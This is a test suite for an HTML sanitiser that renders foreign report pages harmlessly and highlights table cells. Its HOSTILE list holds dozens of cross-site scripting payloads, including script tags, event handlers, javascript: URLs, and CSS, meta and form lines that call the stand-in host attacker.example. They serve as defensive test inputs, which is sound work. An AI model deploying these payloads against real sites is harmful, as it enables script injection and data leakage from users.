"""Foreign documents made harmless: nothing survives but text, the shape of tables, pictures; read cells are found."""

from __future__ import annotations

import base64
import io
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html

from extract.exceptions import ExtractError, UnreadableDocumentError
from extract.limits import Guard
from extract.model import Hints
from monitor.web import sanitising
from monitor.web.sanitising import show

ALLOWED = {"div", "table", "tr", "td", "span", "b", "sup", "sub", "br", "hr", "img", "mark"}
ATTRIBUTES = {("td", "rowspan"), ("td", "colspan"), ("td", "class"), ("td", "id"), ("span", "class"), ("span", "title"),
              ("div", "class"), ("img", "alt"), ("img", "src"), ("mark", "class"), ("mark", "id")}
PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5"
                         "ErkJggg==")
HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "<a href='http://attacker.example/' onclick=alert(1)>x</a>", "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>", "<math><mtext></mtext></math>",
    "<style>td{background:url(http://attacker.example/?a)}</style>", "<div style='background:url(//attacker.example)'>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/'>", "<base href='http://attacker.example/'>",
    "<iframe src='http://attacker.example/'><iframe srcdoc='<script>alert(1)</script>'></iframe></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>", "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='http://attacker.example/x.swf'>", "<form action='http://attacker.example/'><input name=p>"
    "<button formaction='javascript:alert(1)'>x</button></form>", "<link rel=stylesheet href='http://attacker.example/'>",
    "<img src='http://attacker.example/pixel.gif'>", "<img srcset='http://attacker.example/a 1x' alt='标志'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<video src='http://attacker.example/' autoplay></video>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src='--><img src=x onerror=a()>",
    "<td><b><![CDATA[<script>alert(1)</script>]]></b></td>", "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<textarea><img src=x onerror=alert(1)></textarea>",
    "<p id='f-applications.new.total' class='concerned'>x</p>", "<table background='http://attacker.example/'><tr><td>1",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "<portal src='http://attacker.example/'></portal>", "<applet code=x></applet>", "<marquee onstart=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>", "<select><option>x</select>", "<input value='\"><script>alert(1)'>",
]


def page(body, head=""):
    return f"<html><head><title>年报</title>{head}</head><body>{body}</body></html>".encode()


def harmless(markup):
    """Every element and attribute is one that may stay, and nothing leads anywhere."""
    tree = html.fromstring(f"<section>{markup}</section>")
    for element in tree.iter():
        if element is tree:
            continue
        assert element.tag in ALLOWED, html.tostring(element)[:200]
        for name, value in element.attrib.items():
            assert (element.tag, name) in ATTRIBUTES, (element.tag, name)
            if name == "src":
                assert re.match(r"data:image/(png|jpeg|gif|webp|bmp);base64,[A-Za-z0-9+/=]*$", value)
            if name == "class":
                assert value in ("head", "link", "gone", "text", "read", "concerned", "chosen")
    return tree


# ---------------------------------------------------------------- nothing gets through
@pytest.mark.parametrize("evil", HOSTILE)
def test_what_would_run_load_or_lead_away_is_gone(evil):
    for data in (page(f"<p>正文</p>{evil}<table><tr><td>{evil}</td></tr></table>"), page("<p>正文</p>", evil),
                 page(f"<div class='TRS_Editor'><p>正文。{'字' * 300}</p>{evil}</div>")):
        for whole in (0, 1):
            shown = show(data, Hints(name="page"), whole=whole)
            harmless(shown.body)
            harmless(shown.rest)
            if "plaintext" not in evil:  # which swallows whatever follows
                assert "正文" in shown.body + shown.rest


@settings(max_examples=60)
@given(st.lists(st.sampled_from([*HOSTILE, "<table>", "</table>", "<tr>", "<td>", "</td>", "</div>", "<b>", "x", "'\">",
                                 "<p>", "\x00", "\u202e", "</section>", "<tr><td rowspan=99999 colspan=9999>"]),
                max_size=12))
def test_no_mixture_of_broken_markup_gets_through(pieces):
    try:
        shown = show(page("".join(pieces)), Hints(name="page"))
    except UnreadableDocumentError:  # bytes that make it no page
        return
    harmless(shown.body)
    harmless(shown.rest)


@settings(max_examples=40)
@given(st.text(max_size=200))
def test_any_text_stays_text(text):
    made = sanitising.safe(text)
    assert not re.search("[<>\"']", made)
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", made)


def test_hidden_text_links_and_right_to_left_tricks():
    shown = show(page("<p style='display:none'>藏</p><p>报\u202e告</p><a href='http://www.city.example/a'>附件</a>"),
                 Hints(name="page"), whole=1)
    assert "藏" not in shown.body
    assert "报告" in shown.body
    assert '<span class="link" title="http://www.city.example/a">附件</span>' in shown.body


def test_pictures_that_were_captured_stand_in_their_place_and_others_by_their_words():
    body = "<img src='/a.png' alt='表三'><img src='b.png' alt='印章'><img src='c.png' alt='不是图'>"
    shown = show(page(body), Hints(name="page", url="http://www.city.example/x/1.html", resources={
        "http://www.city.example/a.png": PIXEL, "http://www.city.example/x/c.png": b"<svg onload=alert(1)>"}), whole=1)
    tree = harmless(shown.body)
    assert [each.get("alt") for each in tree.iter("img")] == ["表三"]
    assert [each.text_content() for each in tree.xpath("//span[@class='gone']")] == ["▧ 印章", "▧ 不是图"]


def test_a_huge_page_is_cut_and_says_so(monkeypatch):
    monkeypatch.setattr(sanitising, "LONGEST", 5_000)
    shown = show(page("<table>" + "<tr><td>1</td><td>2</td></tr>" * 5_000 + "</table>"), Hints(name="page"), whole=1)
    assert shown.cut
    assert len(shown.body) < 8_000
    harmless(shown.body)


def test_bombs_end_within_the_guard():
    with Guard(task="monitor.web.sanitising:show") as guard:
        for data in (b"<div>" * 200_000, page("<table><tr><td colspan=1000000 rowspan=1000000>1</table>"),
                     b"%PDF-1.4\n%%EOF", b"PK\x03\x04broken"):
            try:
                made = guard.record(data, Hints(name="x"))
            except ExtractError:
                continue
            harmless(made["body"])


# ---------------------------------------------------------------- cells are found
def mark(key, raw, row, column, grid=0, level="read"):
    return {"key": key, "level": level, "raw": raw, "grid": grid, "row": row, "column": column, "box": None,
            "span": None}


TABLE = ("<table><tr><td rowspan=2>项目</td><td colspan=2>数量</td></tr><tr><td>自然人</td><td>总计</td></tr>"
         "<tr><td>本年新收</td><td> 3 </td><td>31</td></tr><tr><td>上年结转</td><td></td><td>1</td></tr></table>")


def test_cells_are_marked_where_they_stand_with_the_strongest_level():
    marks = [mark("a.b", "3", 2, 1), mark("a.c", "31", 2, 2, level="concerned"), mark("a.d", "", 3, 1),
             mark("a.e", "1", 3, 2, level="chosen")]
    shown = show(page(f"<table><tr><td>菜单</td></tr></table>{TABLE}"), Hints(name="page"), marks=json.dumps(marks))
    tree = harmless(shown.body + shown.rest)
    assert {each.get("id"): (each.get("class"), each.text_content().strip()) for each in tree.xpath("//td[@id]")} == {
        "f-a.b": ("read", "3"), "f-a.c": ("concerned", "31"), "f-a.d": ("read", ""), "f-a.e": ("chosen", "1")}
    assert sorted(shown.placed) == ["a.b", "a.c", "a.d", "a.e"]


def test_rows_counted_from_within_a_larger_table_are_found():
    marks = [mark("a", "3", 0, 1), mark("b", "31", 0, 2), mark("c", "1", 1, 2)]
    shown = show(page(TABLE), Hints(name="page"), marks=json.dumps(marks))
    assert sorted(shown.placed) == ["a", "b", "c"]


def test_figures_that_stand_nowhere_mark_nothing():
    shown = show(page(TABLE), Hints(name="page"), marks=json.dumps([mark("a", "77", 2, 1), mark("b", "78", 2, 2)]))
    assert shown.placed == []
    assert "class=" not in shown.body


def test_a_text_file_marks_its_spans():
    text = "一、总体情况\n本年新收 31 件\n"
    marks = [{"key": "a", "level": "chosen", "raw": "31", "span": [text.index("31"), text.index("31") + 2]}]
    shown = show(text.encode(), Hints(name="a.txt", media_type="text/plain"), marks=json.dumps(marks))
    assert '<mark class="chosen" id="f-a">31</mark>' in shown.body


def test_boxes_are_drawn_into_the_page():
    from PIL import Image

    held = io.BytesIO()
    Image.new("RGB", (400, 300), "white").save(held, "PNG")
    marks = [{"key": "a", "level": "concerned", "raw": "", "box": [50, 50, 90, 70]},
             {"key": "b", "level": "chosen", "raw": "", "box": [150, 150, 190, 170]}]
    shown = show(held.getvalue(), Hints(name="a.png"), page=1, marks=json.dumps(marks))
    drawn = Image.open(io.BytesIO(base64.b64decode(shown.picture)))
    assert drawn.getpixel((48, 60)) == (198, 40, 40)
    assert drawn.getpixel((10, 160)) == (110, 30, 160)
    assert drawn.getpixel((300, 250)) == (255, 255, 255)
    assert shown.pages == 1
    assert shown.placed == ["a", "b"]
